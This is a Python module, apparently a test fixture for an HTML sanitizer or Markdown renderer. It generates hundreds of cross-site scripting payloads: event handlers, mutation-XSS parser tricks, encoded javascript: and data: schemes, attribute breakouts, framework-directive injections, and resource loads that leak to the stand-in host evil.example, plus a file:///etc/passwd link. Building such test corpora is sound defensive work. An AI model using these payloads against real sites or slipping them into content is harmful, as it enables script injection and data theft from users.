"""Texts that run a script or fetch something where they become markup: few seeds, many disguises and places.

What runs sets `window.__x` or opens a dialog; what fetches asks `evil.example`.
"""

import base64
from collections.abc import Iterator
from itertools import product

# without "=" and quotes: as a bare attribute's value it is HTML for Markdown, too
RUN, HOST = "Object.assign(window,{__x:1})", "evil.example"
EVIL = f"https://{HOST}/leak"
ELEMENTS = [
    "script", "img", "svg", "body", "video", "audio", "details", "input", "iframe", "object", "embed",
    "math", "marquee", "style", "select", "textarea", "form", "a", "x-y", "p",
]  # fmt: skip
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onbegin", "onanimationstart", "onpointerenter"]
FETCHES = [
    "<img src={e}>", "<img srcset='{e} 1x'>", "<picture><source srcset={e}><img></picture>",
    "<audio src={e}>", "<video src={e}>", "<video poster={e}>", "<iframe src={e}></iframe>",
    "<object data={e}></object>", "<embed src={e}>", "<link rel=stylesheet href={e}>",
    "<link rel=preload as=image href={e}>", "<base href={e}>",
    "<link rel=dns-prefetch href=//evil.example>", "<style>@import '{e}'</style>",
    "<input type=image src={e}>", "<style>*{{background:url({e})}}</style>",
    "<p style='background:url({e})'>", "<table background={e}><td>",
    "<meta http-equiv=refresh content='0;url={e}'>", "<svg><image href={e} /></svg>",
    "<body background={e}>", "<svg><use href='{e}#x'/></svg>", "<svg><feImage href={e} /></svg>",
    "<script src={e}></script>", "<script type=module>import '{e}'</script>",
    "<form action={e}><button autofocus>x</button></form>", "<a href={e} ping={e}>x</a>",
    "<track src={e}>", "<portal src={e}></portal>", "<img src='\\\\evil.example\\x'>", "![x]({e})",
    "![x][1]\n\n[1]: {e}", "![x](<{e}>)", "![][1]\n\n[1]: <{e}> 'x'", "[![x]({e})]({e})",
    "![x](//evil.example/a)", "![x](\\\\evil.example\\a)",
    "![x](data:image/svg+xml,%3Csvg onload=window.__x=1%3E)", "![x](https:evil.example)",
]  # fmt: skip
MUTATIONS = [
    "<math><mtext></form><form><mglyph><style></math><img src onerror={r}>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={r}>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={r}>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea>"
    "<path id=\"</textarea><img onerror={r} src=1>\">",
    "<svg><foreignObject><iframe xmlns=http://www.w3.org/1999/xhtml src=javascript:{r}>",
    "<svg><animate onbegin={r} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{r}><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:{r}></svg>", "<math href=javascript:{r}>x</math>",
    "<math><annotation-xml encoding=text/html><img src onerror={r}></annotation-xml></math>",
    "<template><img src=x onerror={r}></template>",
    "<template shadowrootmode=open><script>{r}</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror={r}>\">",
    "<title><img title=\"</title><img src=x onerror={r}>\"></title>",
    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>", "<!--><img src=x onerror={r}>-->",
    "<!--!> <img src=x onerror={r}> -->", "<![CDATA[<img src=x onerror={r}>]]>",
    "<?xml-stylesheet href='javascript:{r}'?>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={r}>'>]>&y;",
    "<a id=announcer name=body><a id=body name=dataset>x</a>",
    "<div hx-get=/c/ hx-trigger=load hx-on:htmx:load={r}>x</div>", "<div x-data x-init={r}>x</div>",
    "<div x-html=\"'<img src=x onerror={r}>'\" x-data>x</div>",
    "<button @click={r} x-data autofocus>x</button>",
    "<div data-hx-get=/ data-hx-trigger=load data-hx-on::load={r}>x</div>",
    "{{{{constructor.constructor('{r}')()}}}}", "${{{r}}}",
    "<div data-stop data-copy='#x' data-events-url=//evil.example/ class=message>x</div>",
    "<svg/onload={r}//", "<plaintext><img src=x onerror={r}>", "<img src=x onerror={r}<!-- x",
    "<<script>{r}//<</script>", "<scr<script>ipt>{r}</scr</script>ipt>", "</p><img src=x onerror={r}>",
    "</textarea></title></script></style></template><img src=x onerror={r}>",
    "{{% raw %}}<img src=x onerror={r}>{{% endraw %}}", "{{{{ 7*7|safe }}}}",
]  # fmt: skip
SCHEMES = [
    f"javascript:{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>parent.{RUN}</script>",
    "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
    "data:image/svg+xml,<svg onload=window.__x=1>", "blob:https://evil.example/1", "file:///etc/passwd",
    f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", "livescript:x",
    f"jar:{EVIL}!/x", "intent://x#Intent;end",
]  # fmt: skip
LINKS = [
    "[x]({u})", "[x](<{u}>)", "<{u}>", "[x][1]\n\n[1]: {u}", "[x][1]\n\n[1]: <{u}> 't'", "![x]({u})",
    "[x]({u} 't')", "<a href=\"{u}\">x</a>", "[<b>x</b>]({u})", "[![x]({u})]({u})", "{u}", "[x](\n{u}\n)",
]  # fmt: skip
PLACES = [
    "{m}", "- {m}", "> {m}", "# {m}", "| a |\n|:-|\n| {m} |", "**{m}**", "`{m}`", "```\n{m}\n```",
    "```{m}\nx\n```", "    {m}", "[{m}](https://a.example)", "![{m}](https://a.example)",
    "[x](https://a.example \"{m}\")", "${m}$", "$$\n{m}\n$$", "- [ ] {m}", "~~{m}~~", "1. {m}",
    "[x][{m}]\n\n[{m}]: https://a.example", "\\({m}\\)", "<p>\n\n{m}\n\n</p>",
]  # fmt: skip
BREAKS = [
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    '"/>',
    '" ',
    "' ",
    '\\"',
    "&quot;",
    "&#34;>",
    "%22>",
    "</a>",
    "\n\n",
]

ATTRIBUTES = [
    f" onmouseover={RUN} ", f" autofocus onfocus={RUN} x=", f"><img src=x onerror={RUN}>", f" src={EVIL} ",
    f" style=background:url({EVIL}) ", f" x-init={RUN} x-data ", f" hx-get={EVIL} hx-trigger=load ",
    f"</script><script>{RUN}</script>",
]  # fmt: skip


def _by_entity(text: str, form: str) -> str:
    return "".join(form.format(ord(letter)) for letter in text)


def _disguised(text: str) -> Iterator[str]:
    """The same for a reader that is generous, in one way or another."""
    yield from (text, text.swapcase(), text.replace("s", "ſ"), text.replace("=", " = "))
    yield from (text.replace(" ", "/"), text.replace(" ", "\f"))
    for sign in (
        "<\t",
        "</",
        "<\u200b",
        "<\ufeff",
        "&lt;",
        "&#60;",
        "&#x3c",
        "%3C",
        "\\<",
        "＜",
        "\\u003c",
        "\\x3c",
    ):
        yield text.replace("<", sign)
    yield from (f"\ud7ff{text}\uffff", f"\u202e{text}", f"+ADw-{text[1:]}", f"\x1b[31m{text}")
    yield from (f"\x85{text}\u2028{text}", f"\\ud83d{text}", f"{text[:2]}\u0300{text[2:]}")
    yield from (_by_entity(text, "&#{};"), f"\U0010ffff{text}")


def _disguised_scheme(address: str) -> Iterator[str]:
    name, _colon, rest = address.partition(":")
    yield from (address, f"{name.upper()}:{rest}", f"//{name}:{rest}", f" {name} :{rest}")
    for sign in ("&colon;", "&#58;", "&#x3a", "%3a", "\\:", "\u200b:"):
        yield f"{name}{sign}{rest}"
    for sign in ("\t", "\n", "&Tab;", "&NewLine;"):
        yield f"{name[:4]}{sign}{name[4:]}:{rest}"
    yield from (f"{_by_entity(name, '&#{:07}')}:{rest}", f"&#1;{name}:{rest}", f"\x01{name}:{rest}")


def payloads() -> list[str]:
    """Each once, the same at each run."""
    basic = [f"<script>{RUN}</script>", "<script>alert(1)</script>"]
    basic += [f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>"]
    events = [f"<{element} {event}={RUN} autofocus src=x>" for element, event in product(ELEMENTS, EVENTS)]
    fetches = [form.format(e=EVIL) for form in FETCHES]
    mutations = [form.format(r=RUN) for form in MUTATIONS]
    found = [*basic, *events, *fetches, *mutations]
    found += [one for seed in [*basic, fetches[0]] for one in _disguised(seed)]
    places = product(PLACES, [*basic, *fetches, *mutations])
    found += [place.replace("{m}", markup) for place, markup in places]
    found += [
        link.replace("{u}", disguised)
        for link, scheme in product(LINKS, SCHEMES)
        for disguised in _disguised_scheme(scheme)
    ]
    found += [f"{end}{attribute}" for end, attribute in product(BREAKS, ATTRIBUTES)]
    return [one for one in dict.fromkeys(found) if "\x00" not in one]
